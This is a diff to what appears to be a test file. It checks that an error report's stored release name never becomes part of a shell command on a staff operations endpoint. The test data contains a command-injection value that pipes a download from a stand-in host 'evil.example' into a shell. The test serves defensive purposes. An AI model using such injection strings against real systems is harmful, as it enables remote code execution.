@@ -304,11 +304,12 @@ test('what a report that is kept names as its deployment is part of no command, 
     engine: '',
     shell: '',
   } as const
-  const release = 'loan; curl evil.example | sh #@1'
+  // The last is no app, of which the command knows nothing.
+  const releases = ['loan; curl evil.example | sh #@1', 'evil@0123456789ab']
 
   await database.query
     .insertInto('error_reports')
-    .values(Array.from({ length: 20 }, () => ({ ...kept, id: randomUUID(), release })))
+    .values(Array.from({ length: 20 }, (_, at) => ({ ...kept, id: randomUUID(), release: releases[at % 2] ?? '' })))
     .execute()
 
   const { data } = await callStaff(origin, '/staff/ops', undefined, 'the-staff-token')
